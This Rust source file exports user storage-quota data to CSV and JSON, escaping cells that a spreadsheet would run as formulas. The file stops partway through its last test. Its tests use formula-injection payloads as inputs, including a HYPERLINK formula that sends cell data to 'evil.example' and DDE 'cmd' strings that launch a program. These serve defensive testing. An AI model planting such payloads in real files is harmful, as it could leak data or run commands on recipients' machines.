//! Exports of what is shown: CSV (RFC 4180, quoted by `csv-core`, the core of
//! the `csv` crate that reads the imports)
//! and JSON. Both start from the raw wire values, exactly as received
//! (`quota` stays its digit string), then add the derived and formatted
//! values; times are ISO-8601 UTC.
//!
//! CSV header (its first columns are documented in the README and kept):
//! `userId,quota,used,usedRatio,state,`
//! `createTime,effectiveTime,expirationTime,quota (GiB),used (GiB),usage (%)`.
//! Ids the server did not know (missing) and ids whose request failed are
//! added as rows of state `missing` / `failed` when no filter is set, so an
//! audit list exports every id it was given.
//!
//! With a directory, five columns follow: `name,email,department,`
//! `directoryStatus,inDirectory` (`yes`/`no`), and after a complete listing
//! the directory users KooDrive does not know are added (unfiltered) as rows
//! of state `notInKooDrive`. In JSON each user gains `"directory"` (its
//! entry or `null`) and the top level `"notInKooDrive"`.
//!
//! In CSV, every text cell that a spreadsheet would run as a formula (one
//! that starts with `=`, `+`, `-`, `@`, a tab or a carriage return: ids,
//! quotas and times as received, missing and failed ids, directory cells)
//! gets a leading `'` ([`defused_cell`]); plain numbers such as `-3` stay
//! numbers. JSON keeps every value raw.

use std::fmt::Write as _;

use koodrive_core::{Thresholds, UsageState};

use super::directory::{Directory, Entry, NONE};
use super::numbers::{push_fixed, shortest};
use super::results::Completeness;
use super::rows::{Row, Rows, Text, Time};
use super::times::iso_utc;
use super::units::WireUnit;

/// The CSV's header row.
pub const CSV_HEADER: [&str; 13] = [
    "userId",
    "quota",
    "used",
    "usedRatio",
    "state",
    "createTime",
    "effectiveTime",
    "expirationTime",
    "quota (GiB)",
    "used (GiB)",
    "usage (%)",
    "free",
    "free (GiB)",
];

/// The directory columns' header, after [`CSV_HEADER`].
pub const DIRECTORY_HEADER: [&str; 5] = [
    "name",
    "email",
    "department",
    "directoryStatus",
    "inDirectory",
];

/// The directory, as an export needs it.
#[derive(Debug, Clone, Copy)]
pub struct DirectoryColumns<'a> {
    /// The directory.
    pub directory: &'a Directory,
    /// The entry of each row ([`Directory::join`]).
    pub join: &'a [u32],
    /// Entries KooDrive does not know (after a complete listing; exported
    /// when `with_unsettled`).
    pub only_in_directory: &'a [u32],
}

impl ExportInput<'_> {
    /// The state of row `i` (unknown when the states do not reach it).
    pub(crate) fn state_of(&self, i: u32) -> UsageState {
        self.states
            .get(i as usize)
            .copied()
            .unwrap_or(UsageState::Unknown)
    }
}

impl DirectoryColumns<'_> {
    /// The directory entry of row `i`, when it has one.
    pub(crate) fn entry_of_row(&self, i: u32) -> Option<Entry<'_>> {
        let e = self.join.get(i as usize).copied().unwrap_or(NONE);
        self.directory.entry(e)
    }
}

/// Cells a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or
/// a carriage return first) get a leading `'` in CSV exports, so that a
/// name from the directory cannot become a command when the file is opened.
pub fn defused(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

/// The directory's cells of an export row: name, email, department,
/// status, and whether the user is in the directory (`yes`/`no`).
pub(crate) fn directory_cells(entry: Option<Entry<'_>>) -> [String; 5] {
    match entry {
        None => [
            String::new(),
            String::new(),
            String::new(),
            String::new(),
            "no".to_owned(),
        ],
        Some(e) => [
            e.name.to_owned(),
            e.email.to_owned(),
            e.department.unwrap_or("").to_owned(),
            e.status.to_owned(),
            "yes".to_owned(),
        ],
    }
}

/// What to export.
#[derive(Debug, Clone, Copy)]
pub struct ExportInput<'a> {
    /// All rows.
    pub rows: &'a Rows,
    /// Their states under the current thresholds.
    pub states: &'a [UsageState],
    /// The rows shown, in the table's order.
    pub shown: &'a [u32],
    /// Ids the server did not know (exported when `with_unsettled`).
    pub missing: &'a [String],
    /// Ids whose request failed (exported when `with_unsettled`).
    pub failed: &'a [String],
    /// Whether to add the missing and failed ids (no filter is set).
    pub with_unsettled: bool,
    /// What the wire numbers count.
    pub unit: WireUnit,
    /// The thresholds the states were derived with.
    pub thresholds: Thresholds,
    /// When, Unix ms (JSON only).
    pub now_ms: i64,
    /// The directory's columns, when one is loaded.
    pub directory: Option<DirectoryColumns<'a>>,
    /// How complete the results are (a partial export says so).
    pub completeness: Completeness,
    /// Whether the results are an earlier run's, shown again.
    pub earlier_run: bool,
    /// Each row's `growthPerDay`, `fullInDays` and `criticalInDays` (by
    /// row index), when there is usage history
    /// ([`super::history::export_cells`]).
    pub history: Option<&'a [[String; 3]]>,
}

/// The name of an export of the users: `koodrive-usage-{stamp}.{extension}`,
/// with `-partial` when the results lack users they were asked for and
/// `-earlier-run` when they are an earlier run's.
pub fn usage_file_name(
    now_ms: i64,
    completeness: Completeness,
    earlier_run: bool,
    extension: &str,
) -> String {
    let partial = if completeness.is_partial() {
        "-partial"
    } else {
        ""
    };
    let earlier = if earlier_run { "-earlier-run" } else { "" };
    format!(
        "koodrive-usage{partial}{earlier}-{}.{extension}",
        file_stamp(now_ms)
    )
}

/// The time part of an export's file name: `20251212T083714` (UTC).
pub fn file_stamp(now_ms: i64) -> String {
    iso_utc(now_ms)
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .take(15)
        .collect()
}

fn number(n: f64) -> String {
    if n.is_finite() {
        shortest(n)
    } else {
        String::new()
    }
}

/// Whether a cell is a plain decimal number (`-3`, `+0.5`, `1e21`), which a
/// spreadsheet reads as a number, not a formula.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['-', '+']).unwrap_or(e))),
        None => (unsigned, None),
    };
    let digits = |s: &str| s.bytes().all(|b| b.is_ascii_digit());
    let (whole, fraction) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    !(whole.is_empty() && fraction.is_empty())
        && digits(whole)
        && digits(fraction)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

/// A cell as it goes into a CSV file: one that a spreadsheet would run as a
/// formula (`=`, `+`, `-`, `@`, a tab or a carriage return first) gets a
/// leading `'`, so that no value from a server or a file can become a
/// command when the file is opened; plain numbers are kept as they are.
pub fn defused_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !is_plain_number(cell) => {
            format!("'{cell}").into()
        }
        _ => cell.into(),
    }
}

/// Writes one CSV field: defused ([`defused_cell`]), quoted (RFC 4180, by
/// `csv-core`'s quoting) when it holds a comma, a quote or a line break.
fn write_field(out: &mut Vec<u8>, field: &str) {
    let field = defused_cell(field);
    let field = field.as_bytes();
    if field
        .iter()
        .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n'))
    {
        // Every byte at most doubled, so one call quotes the whole field.
        let mut quoted = vec![0; field.len() * 2];
        let (_, _, written) = csv_core::quote(field, &mut quoted, b'"', b'\\', true);
        out.push(b'"');
        out.extend_from_slice(&quoted[..written]);
        out.push(b'"');
    } else {
        out.extend_from_slice(field);
    }
}

/// Writes a CSV field of a row: as it is when written from its column
/// (nothing in it to quote or defuse), else as [`write_field`] does.
fn write_text(out: &mut Vec<u8>, text: &Text<'_>) {
    match text.written() {
        Some(bytes) => out.extend_from_slice(bytes),
        None => write_field(out, text),
    }
}

/// Writes one CSV record: each field defused ([`defused_cell`]), fields
/// separated by commas, quoted (RFC 4180, by `csv-core`'s quoting) when they
/// hold a comma, a quote or a line break; CRLF at the end. (`csv::Writer` is
/// not used: its other quoting styles bring Rust's float parser, tens of
/// kilobytes, into the page.)
pub(crate) fn write_record<S: AsRef<str>>(out: &mut Vec<u8>, fields: &[S]) {
    for (k, field) in fields.iter().enumerate() {
        if k > 0 {
            out.push(b',');
        }
        write_field(out, field.as_ref());
    }
    out.extend_from_slice(b"\r\n");
}

/// The UTF-8 byte-order mark every CSV export starts with: without it, a
/// spreadsheet opened by double-click reads the file in the system's legacy
/// code page, and 李 or 研发中心 turn into mojibake.
pub const BOM: &str = "\u{feff}";

/// Users per part of a streamed export ([`csv_parts`], [`json_parts`]): a
/// few megabytes, so that an export of a million users is never held whole
/// in the page's memory.
pub const ROWS_PER_PART: usize = 20_000;

/// Counts the rows written into the part being filled.
struct PartRows {
    rows: usize,
    per_part: usize,
}

impl PartRows {
    fn new(per_part: usize) -> Self {
        Self {
            rows: 0,
            per_part: per_part.max(1),
        }
    }

    /// One more row written: whether the part is now full.
    fn full_after_one(&mut self) -> bool {
        self.rows += 1;
        if self.rows >= self.per_part {
            self.rows = 0;
            true
        } else {
            false
        }
    }
}

/// Whether `text` is a time written as exports write them
/// (`2025-12-12T08:37:14.613Z`: UTC, milliseconds), which reads back as
/// itself or not at all: such a time goes out as it came, without being
/// parsed and written again. A leap second (`:60`) is not, as the parser
/// reads it as the instant before.
fn written_as_exported(text: &str) -> bool {
    super::rows::iso_shaped(text.as_bytes()) && text.as_bytes()[17] < b'6'
}

/// A time as exported: ISO-8601 UTC when readable (as received when
/// already written so), else as received.
fn export_time(row: Row<'_>, which: Time) -> Text<'_> {
    match row.time_text(which) {
        None => Text::Borrowed(""),
        Some(t) if t.written().is_some() || written_as_exported(&t) => t,
        Some(t) => row.time_ms(which).map_or(t, |ms| Text::Owned(iso_utc(ms))),
    }
}

/// The CSV record of row `i`.
fn write_csv_user(out: &mut Vec<u8>, input: &ExportInput<'_>, i: u32) {
    let row = input.rows.at(i);
    let state = input.state_of(i);
    let used = row.used_as_received().map(number);
    let quota = row.quota_text();
    write_text(out, &Text::Borrowed(row.user_id()));
    out.push(b',');
    write_text(out, &quota);
    out.push(b',');
    let cells: [&str; 3] = [
        used.as_deref().unwrap_or(""),
        &row.ratio().map_or_else(String::new, number),
        state.as_str(),
    ];
    for (k, cell) in cells.into_iter().enumerate() {
        if k > 0 {
            out.push(b',');
        }
        write_field(out, cell);
    }
    for which in [Time::Created, Time::Effective, Time::Expires] {
        out.push(b',');
        write_text(out, &export_time(row, which));
    }
    // `quota - used` to the last digit, from the text of `used` above.
    let free = match (row.quota(), row.used(), used.as_deref()) {
        (Some(quota), Some(u), Some(text)) => super::rows::exact_difference(quota, u, text),
        _ => None,
    };
    // Plain numbers, written in place: nothing in them to quote or defuse.
    let in_gib = |out: &mut Vec<u8>, amount: Option<f64>| {
        out.push(b',');
        if let Some(a) = amount {
            push_fixed(out, input.unit.to_bytes(a) / WireUnit::GiB.bytes(), 6, true);
        }
    };
    in_gib(out, row.quota().map(|q| q as f64));
    in_gib(out, row.used());
    out.push(b',');
    if let Some(x) = row.ratio() {
        push_fixed(out, x * 100.0, 2, false);
    }
    out.push(b',');
    write_field(out, free.as_deref().unwrap_or(""));
    in_gib(out, row.free());
    if let Some(d) = input.directory {
        for cell in directory_cells(d.entry_of_row(i)) {
            out.push(b',');
            write_field(out, &cell);
        }
    }
    if let Some(h) = input.history {
        let none = <[String; 3]>::default();
        for cell in h.get(i as usize).unwrap_or(&none) {
            out.push(b',');
            write_field(out, cell);
        }
    }
    out.extend_from_slice(b"\r\n");
}

/// The shown rows as CSV text (a byte-order mark, CRLF line ends, quoted
/// where needed): [`csv_parts`] put together.
pub fn to_csv(input: &ExportInput<'_>) -> String {
    let mut whole = Vec::new();
    csv_parts(input, ROWS_PER_PART, &mut |part| {
        whole.extend_from_slice(part)
    });
    // Every field is a `String`, so the bytes are UTF-8 and nothing is lost.
    String::from_utf8(whole).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// The shown rows as CSV, in parts of `rows_per_part` records: `part` gets
/// the byte-order mark, the header and the first records, then each further
/// part in turn (each ends with a whole record, in UTF-8). One part is held
/// at a time; put one after the other, they are [`to_csv`]'s text.
pub fn csv_parts(input: &ExportInput<'_>, rows_per_part: usize, part: &mut dyn FnMut(&[u8])) {
    let mut rows = PartRows::new(rows_per_part);
    let mut writer = Vec::with_capacity(128 + input.shown.len().min(rows.per_part) * 200);
    writer.extend_from_slice(BOM.as_bytes());
    let dir = input.directory;
    let mut header: Vec<&str> = CSV_HEADER.to_vec();
    if dir.is_some() {
        header.extend(DIRECTORY_HEADER);
    }
    if input.history.is_some() {
        header.extend(super::history::EXPORT_HEADER);
    }
    write_record(&mut writer, &header);
    let history_of = |i: u32| {
        input
            .history
            .map(|h| h.get(i as usize).cloned().unwrap_or_default())
    };
    // The directory's cells of an id that is not a row (missing, failed).
    let cells_of_id = |id: &str| {
        dir.map(|d| directory_cells(d.directory.find_id(id).and_then(|e| d.directory.entry(e))))
    };
    let mut flush = |writer: &mut Vec<u8>, rows: &mut PartRows| {
        if rows.full_after_one() {
            part(writer);
            writer.clear();
        }
    };
    for &i in input.shown {
        write_csv_user(&mut writer, input, i);
        flush(&mut writer, &mut rows);
    }
    if input.with_unsettled {
        for (ids, state) in [(input.missing, "missing"), (input.failed, "failed")] {
            for id in ids {
                let mut record = vec![String::new(); CSV_HEADER.len()];
                record[0] = id.clone();
                record[4] = state.to_owned();
                record.extend(cells_of_id(id).into_iter().flatten());
                record.extend(history_of(u32::MAX).into_iter().flatten());
                write_record(&mut writer, &record);
                flush(&mut writer, &mut rows);
            }
        }
        if let Some(d) = dir {
            for &e in d.only_in_directory {
                let entry = d.directory.entry(e);
                let mut record = vec![String::new(); CSV_HEADER.len()];
                record[0] = entry.map_or("", |e| e.id).to_owned();
                record[4] = "notInKooDrive".to_owned();
                record.extend(directory_cells(entry));
                record.extend(history_of(u32::MAX).into_iter().flatten());
                write_record(&mut writer, &record);
                flush(&mut writer, &mut rows);
            }
        }
    }
    if !writer.is_empty() {
        part(&writer);
    }
}

/// A JSON string literal, written by core's one escaper.
pub(crate) fn json_string(out: &mut String, s: &str) {
    koodrive_core::json::push_string(out, s);
}

/// A JSON string of a row's text: as it is when written from its column
/// (nothing in it to escape).
fn json_text(out: &mut String, text: &Text<'_>) {
    if text.written().is_some() {
        out.push('"');
        out.push_str(text);
        out.push('"');
    } else {
        json_string(out, text);
    }
}

fn json_number(out: &mut String, n: Option<f64>) {
    match n {
        Some(n) if n.is_finite() => out.push_str(&shortest(n)),
        _ => out.push_str("null"),
    }
}

fn json_ids(out: &mut String, ids: &[String]) {
    out.push('[');
    for (k, id) in ids.iter().enumerate() {
        if k > 0 {
            out.push(',');
        }
        json_string(out, id);
    }
    out.push(']');
}

/// The shown rows as JSON: `{"exportedAt", "unit", "nearingAt", "criticalAt",
/// "users": [UserSpaceQuota with usedRatio and state], "missing", "failed",
/// "completeness"}`, where `completeness` is `"complete"` or `"partial"`
/// (then `"expectedUsers"` says how many were asked for), and
/// `"earlierRun": true` marks the results of an earlier run:
/// [`json_parts`] put together.
pub fn to_json(input: &ExportInput<'_>) -> String {
    let mut whole = Vec::new();
    json_parts(input, ROWS_PER_PART, &mut |part| {
        whole.extend_from_slice(part)
    });
    // Every part is a `String`'s bytes.
    String::from_utf8(whole).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned())
}

/// The JSON object of row `i`, after a `,` when it is not the first.
fn write_json_user(out: &mut String, input: &ExportInput<'_>, i: u32, first: bool) {
    let row = input.rows.at(i);
    if !first {
        out.push(',');
    }
    out.push_str("\n{\"userId\":");
    json_string(out, row.user_id());
    out.push_str(",\"quota\":");
    json_text(out, &row.quota_text());
    out.push_str(",\"used\":");
    let used = row
        .used_as_received()
        .filter(|u| u.is_finite())
        .map(shortest);
    out.push_str(used.as_deref().unwrap_or("null"));
    let free = match (row.quota(), row.used(), used.as_deref()) {
        (Some(quota), Some(u), Some(text)) => super::rows::exact_difference(quota, u, text),
        _ => None,
    };
    if let Some(free) = free {
        // Exact, as a string like `quota`: it may pass 2^53.
        out.push_str(",\"free\":");
        json_string(out, &free);
    }
    for (name, which) in [
        ("createTime", Time::Created),
        ("effectiveTime", Time::Effective),
        ("expirationTime", Time::Expires),
    ] {
        if row.time_text(which).is_some() {
            let _ = write!(out, ",\"{name}\":");
            json_text(out, &export_time(row, which));
        }
    }
    out.push_str(",\"usedRatio\":");
    json_number(out, row.ratio());
    out.push_str(",\"state\":");
    let state = input.state_of(i);
    json_string(out, state.as_str());
    if let Some(d) = input.directory {
        out.push_str(",\"directory\":");
        json_entry(out, d.entry_of_row(i));
    }
    if let Some(h) = input.history {
        let none = <[String; 3]>::default();
        let cells = h.get(i as usize).unwrap_or(&none);
        for (name, cell) in super::history::EXPORT_HEADER.iter().zip(cells) {
            // The cells are plain numbers, or empty when not known.
            let value = if cell.is_empty() { "null" } else { cell };
            let _ = write!(out, ",\"{name}\":{value}");
        }
    }
    out.push('}');
}

/// The shown rows as JSON (see [`to_json`]), in parts of `rows_per_part`
/// users: `part` gets the top of the object and the first users, then each
/// further part in turn, the last with the end of the object (each in
/// UTF-8). One part is held at a time; put one after the other, they are
/// [`to_json`]'s text.
pub fn json_parts(input: &ExportInput<'_>, rows_per_part: usize, part: &mut dyn FnMut(&[u8])) {
    let mut rows = PartRows::new(rows_per_part);
    let mut out = String::with_capacity(64 + input.shown.len().min(rows.per_part) * 260);
    out.push_str("{\"exportedAt\":");
    json_string(&mut out, &iso_utc(input.now_ms));
    out.push_str(",\"unit\":");
    json_string(&mut out, input.unit.symbol());
    out.push_str(",\"nearingAt\":");
    json_number(&mut out, Some(input.thresholds.nearing_at()));
    out.push_str(",\"criticalAt\":");
    json_number(&mut out, Some(input.thresholds.critical_at()));
    out.push_str(",\"users\":[");
    for (k, &i) in input.shown.iter().enumerate() {
        write_json_user(&mut out, input, i, k == 0);
        if rows.full_after_one() {
            part(out.as_bytes());
            out.clear();
        }
    }
    out.push_str("\n],\"missing\":");
    json_ids(
        &mut out,
        if input.with_unsettled {
            input.missing
        } else {
            &[]
        },
    );
    out.push_str(",\"failed\":");
    json_ids(
        &mut out,
        if input.with_unsettled {
            input.failed
        } else {
            &[]
        },
    );
    if let Some(d) = input.directory {
        out.push_str(",\"notInKooDrive\":[");
        if input.with_unsettled {
            for (k, &e) in d.only_in_directory.iter().enumerate() {
                if k > 0 {
                    out.push(',');
                }
                json_string(&mut out, d.directory.entry(e).map_or("", |e| e.id));
            }
        }
        out.push(']');
    }
    out.push_str(",\"completeness\":");
    match input.completeness {
        Completeness::Partial { expected } => {
            let _ = write!(out, "\"partial\",\"expectedUsers\":{expected}");
        }
        Completeness::Complete | Completeness::Running => out.push_str("\"complete\""),
    }
    if input.earlier_run {
        out.push_str(",\"earlierRun\":true");
    }
    out.push_str("}\n");
    part(out.as_bytes());
}

/// A directory entry as JSON, or `null`.
fn json_entry(out: &mut String, entry: Option<Entry<'_>>) {
    let Some(e) = entry else {
        out.push_str("null");
        return;
    };
    for (k, (name, value)) in [
        ("name", e.name),
        ("email", e.email),
        ("department", e.department.unwrap_or("")),
        ("status", e.status),
    ]
    .into_iter()
    .enumerate()
    {
        out.push(if k == 0 { '{' } else { ',' });
        json_string(out, name);
        out.push(':');
        json_string(out, value);
    }
    out.push('}');
}

#[cfg(test)]
mod tests {
    use koodrive_core::UserSpaceQuota;

    use super::*;

    fn sample() -> (Rows, Vec<UsageState>) {
        let mut a = UserSpaceQuota::new("1001", 1_048_576, 996_147.2);
        a.expiration_time = Some("2025-12-12T16:37:14.613+08:00".into());
        let mut b = UserSpaceQuota::new("x\"y,z", 0, 0.0);
        b.quota = "18446744073709551615".into();
        let rows: Rows = [a, b].into_iter().collect();
        let t = Thresholds::default();
        let states = rows.iter().map(|r| r.state(&t)).collect();
        (rows, states)
    }

    fn input<'a>(
        rows: &'a Rows,
        states: &'a [UsageState],
        missing: &'a [String],
    ) -> ExportInput<'a> {
        ExportInput {
            rows,
            states,
            shown: &[1, 0],
            missing,
            failed: &[],
            with_unsettled: true,
            unit: WireUnit::KiB,
            thresholds: Thresholds::default(),
            now_ms: 0,
            directory: None,
            completeness: Completeness::Complete,
            earlier_run: false,
            history: None,
        }
    }

    #[test]
    fn with_history_each_user_gains_growth_and_days_to_full() {
        let (rows, states) = sample();
        let cells = [
            ["1048576".to_owned(), "12.0".to_owned(), "11.8".to_owned()],
            [String::new(), String::new(), String::new()],
        ];
        let mut with = input(&rows, &states, &[]);
        with.history = Some(&cells);
        let csv = to_csv(&with);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert!(lines[0].ends_with(",growthPerDay,fullInDays,criticalInDays"));
        assert!(lines[1].ends_with(",,,"), "{}", lines[1]);
        assert!(lines[2].ends_with(",1048576,12.0,11.8"), "{}", lines[2]);
        let json = to_json(&with);
        assert!(
            json.contains("\"growthPerDay\":1048576,\"fullInDays\":12.0,\"criticalInDays\":11.8}")
        );
        assert!(
            json.contains("\"growthPerDay\":null,\"fullInDays\":null,\"criticalInDays\":null}")
        );
        assert!(!to_csv(&input(&rows, &states, &[])).contains("growthPerDay"));
    }

    #[test]
    fn csv_has_the_documented_header_raw_values_then_formatted_ones() {
        let (rows, states) = sample();
        let missing = vec!["404".to_owned()];
        let csv = to_csv(&input(&rows, &states, &missing));
        let csv = csv.strip_prefix(BOM).unwrap_or_default();
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert!(lines[0].starts_with("userId,quota,used,usedRatio,state,"));
        assert!(lines[0].ends_with(",quota (GiB),used (GiB),usage (%),free,free (GiB)"));
        assert_eq!(
            lines[1],
            "\"x\"\"y,z\",18446744073709551615,0,0,normal,,,,17592186044416,0,0.00,18446744073709551615,17592186044416"
        );
        assert_eq!(
            lines[2],
            "1001,1048576,996147.2,0.95,nearing,,,2025-12-12T08:37:14.613Z,1,0.95,95.00,52428.8,0.05"
        );
        assert_eq!(lines[3], "404,,,,missing,,,,,,,,");
        assert_eq!(lines.len(), 5);
    }

    #[test]
    fn csv_defuses_formulas_in_every_text_cell_and_json_stays_raw()
    -> Result<(), super::super::directory::DirectoryError> {
        use super::super::directory::DirectoryFile;
        let link = r#"=HYPERLINK("https://evil.example/?"&A1,"x")"#;
        let mut a = UserSpaceQuota::new(link, 0, -3.0);
        a.quota = "+1+cmd|' /C calc'!A0".into();
        a.create_time = Some("@SUM(A1)".into());
        a.expiration_time = Some("\t=1".into());
        let rows: Rows = [a, UserSpaceQuota::new("1001", 10, 1.0)]
            .into_iter()
            .collect();
        let states = vec![UsageState::Unknown, UsageState::Normal];
        let missing = vec!["-2+3+cmd|' /C calc'!A0".to_owned()];
        let failed = vec!["\r=1".to_owned()];
        let file = "userId,name\n=1+1,@me\n";
        let file = DirectoryFile::read("d.csv", file.as_bytes().to_vec())?;
        let directory = file.apply(file.guessed)?;
        let join = directory.join(&rows);
        let only = directory.not_joined(&join);
        let mut x = input(&rows, &states, &missing);
        x.shown = &[0, 1];
        x.failed = &failed;
        x.directory = Some(DirectoryColumns {
            directory: &directory,
            join: &join,
            only_in_directory: &only,
        });
        let csv = to_csv(&x);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert!(
            lines[1].starts_with(r#""'=HYPERLINK(""https://evil.example/?""&A1,""x"")",'+1+cmd|' /C calc'!A0,-3,,unknown,'@SUM(A1),,"#),
            "{}",
            lines[1]
        );
        assert!(lines[1].contains("'\t=1"), "{}", lines[1]);
        assert!(
            lines[2].starts_with("1001,10,1,0.1,normal,"),
            "numeric ids and numbers unaffected: {}",
            lines[2]
        );
        assert!(
            lines[3].starts_with("'-2+3+cmd|' /C calc'!A0,,,,missing,"),
            "{}",
            lines[3]
        );
        assert!(lines[4].starts_with("\"'\r=1\",,,,failed,"), "{}", lines[4]);
        assert!(
            lines[5].starts_with("'=1+1,,,,notInKooDrive,"),
            "{}",
            lines[5]
        );
        assert!(lines[5].ends_with(",'@me,,,,yes"), "{}", lines[5]);
        // Every cell of every line: none starts a formula.
        for line in &lines {
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(line.as_bytes());
            for record in reader.records() {
                let record = record.expect("a record this export wrote");
                for cell in &record {
                    let first = cell.chars().next();
                    let safe = is_plain_number(cell)
                        || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r'));
                    assert!(safe, "{cell:?} in {line}");
                }
            }
        }
        let json = to_json(&x);
        assert!(
            json.contains(r#""userId":"=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")""#),
            "{json}"
        );
        assert!(json.contains(r#""quota":"+1+cmd|' /C calc'!A0""#), "{json}");
        Ok(())
    }

    #[test]
    fn only_plain_numbers_escape_defusing() {
        for number in ["-3", "+0.5", "-.5", "1e21", "-1.5E-7", "42"] {
            assert_eq!(defused_cell(number), number);
        }
        for formula in [
            "-", "+", "-1+1", "-A1", "-1e", "+cmd", "=1", "@A1", "\t1", "\r1",
        ] {
            assert_eq!(defused_cell(formula), format!("'{formula}"));
        }
    }

    #[test]
    fn a_csv_export_starts_with_a_byte_order_mark_for_spreadsheets() {
        let (rows, states) = sample();
        let csv = to_csv(&input(&rows, &states, &[]));
        assert!(csv.starts_with("\u{feff}userId,"), "{csv}");
    }

    #[test]
    fn a_partial_export_says_so_in_its_name_and_its_json() {
        let (rows, states) = sample();
        let mut x = input(&rows, &states, &[]);
        let partial = Completeness::Partial { expected: 20_000 };
        x.completeness = partial;
        let json = to_json(&x);
        assert!(
            json.ends_with(",\"completeness\":\"partial\",\"expectedUsers\":20000}\n"),
            "{json}"
        );
        x.completeness = Completeness::Complete;
        x.earlier_run = true;
        assert!(to_json(&x).ends_with(",\"completeness\":\"complete\",\"earlierRun\":true}\n"));
        assert_eq!(
            usage_file_name(0, partial, false, "csv"),
            "koodrive-usage-partial-19700101T000000.csv"
        );
        assert_eq!(
            usage_file_name(0, Completeness::Complete, true, "json"),
            "koodrive-usage-earlier-run-19700101T000000.json"
        );
        assert_eq!(
            usage_file_name(0, Completeness::Complete, false, "csv"),
            "koodrive-usage-19700101T000000.csv"
        );
    }

    #[test]
    fn json_keeps_wire_names_and_exact_quotas() {
        let (rows, states) = sample();
        let json = to_json(&input(&rows, &states, &[]));
        assert!(json.contains(r#"{"userId":"x\"y,z","quota":"18446744073709551615","used":0,"free":"18446744073709551615","usedRatio":0,"state":"normal"}"#), "{json}");
        assert!(
            json.contains(
                r#""expirationTime":"2025-12-12T08:37:14.613Z","usedRatio":0.95,"state":"nearing""#
            ),
            "{json}"
        );
        assert!(json.starts_with(r#"{"exportedAt":"1970-01-01T00:00:00.000Z","unit":"KiB","nearingAt":0.9,"criticalAt":0.99,"users":["#));
    }

    #[test]
    fn with_a_directory_exports_carry_its_columns_and_its_strangers()
    -> Result<(), super::super::directory::DirectoryError> {
        use super::super::directory::DirectoryFile;
        let file = "userId,name,email,department,status\n1001,\"Lovelace, Ada\",ada@x.org,Research,active\n404,Gone,gone@x.org,Sales,left\n777,Only Here,only@x.org,,active\n";
        let file = DirectoryFile::read("d.csv", file.as_bytes().to_vec())?;
        let directory = file.apply(file.guessed)?;
        let (rows, states) = sample();
        let join = directory.join(&rows);
        let only = directory.not_joined(&join);
        let missing = vec!["404".to_owned()];
        let mut x = input(&rows, &states, &missing);
        x.missing = &missing;
        x.directory = Some(DirectoryColumns {
            directory: &directory,
            join: &join,
            only_in_directory: &only,
        });
        let csv = to_csv(&x);
        let lines: Vec<&str> = csv.trim_start_matches(BOM).split("\r\n").collect();
        assert!(lines[0].ends_with(
            ",usage (%),free,free (GiB),name,email,department,directoryStatus,inDirectory"
        ));
        assert!(
            lines[1].ends_with(",0.00,18446744073709551615,17592186044416,,,,,no"),
            "{}",
            lines[1]
        );
        assert!(
            lines[2]
                .ends_with(",95.00,52428.8,0.05,\"Lovelace, Ada\",ada@x.org,Research,active,yes"),
            "{}",
            lines[2]
        );
        assert_eq!(
            lines[3],
            "404,,,,missing,,,,,,,,,Gone,gone@x.org,Sales,left,yes"
        );
        assert_eq!(
            lines[4],
            "404,,,,notInKooDrive,,,,,,,,,Gone,gone@x.org,Sales,left,yes"
        );
        assert_eq!(
            lines[5],
            "777,,,,notInKooDrive,,,,,,,,,Only Here,only@x.org,,active,yes"
        );
        let json = to_json(&x);
        assert!(json.contains(r#""state":"nearing","directory":{"name":"Lovelace, Ada","email":"ada@x.org","department":"Research","status":"active"}}"#), "{json}");
        assert!(
            json.contains(r#""state":"normal","directory":null}"#),
            "{json}"
        );
        assert!(
            json.ends_with(
                r#""notInKooDrive":["404","777"],"completeness":"complete"}
"#
            ),
            "{json}"
        );
        Ok(())
    }

    #[test]
    fn exports_in_parts_put_together_are_the_whole_file()
    -> Result<(), super::super::directory::DirectoryError> {
        use super::super::directory::DirectoryFile;
        let file = "userId,name\n1001,\"Lovelace, Ada\"\n777,Only Here\n";
        let file = DirectoryFile::read("d.csv", file.as_bytes().to_vec())?;
        let directory = file.apply(file.guessed)?;
        let mut rows = Rows::new();
        for k in 0..23u32 {
            let mut record =
                UserSpaceQuota::new(format!("{}", 1000 + k), 1_048_576, f64::from(k) * 1.5);
            record.create_time = (k % 2 == 0).then(|| "2025-11-12T16:37:14.613+08:00".to_owned());
            record.expiration_time = (k % 3 == 0).then(|| "not a time".to_owned());
            rows.push(record);
        }
        let t = Thresholds::default();
        let states: Vec<UsageState> = rows.iter().map(|r| r.state(&t)).collect();
        let shown: Vec<u32> = (0..rows.len() as u32).rev().collect();
        let join = directory.join(&rows);
        let only = directory.not_joined(&join);
        let missing: Vec<String> = (0..7).map(|k| format!("40{k}")).collect();
        let failed = vec!["500".to_owned()];
        let mut x = input(&rows, &states, &missing);
        x.shown = &shown;
        x.failed = &failed;
        x.directory = Some(DirectoryColumns {
            directory: &directory,
            join: &join,
            only_in_directory: &only,
        });
        let (csv, json) = (to_csv(&x), to_json(&x));
        assert!(csv.contains("\r\n1001,1048576,1.5,"), "{csv}");
        for per_part in [1, 2, 5, 23, 24, 1000] {
            for (whole, write) in [
                (
                    &csv,
                    csv_parts as fn(&ExportInput<'_>, usize, &mut dyn FnMut(&[u8])),
                ),
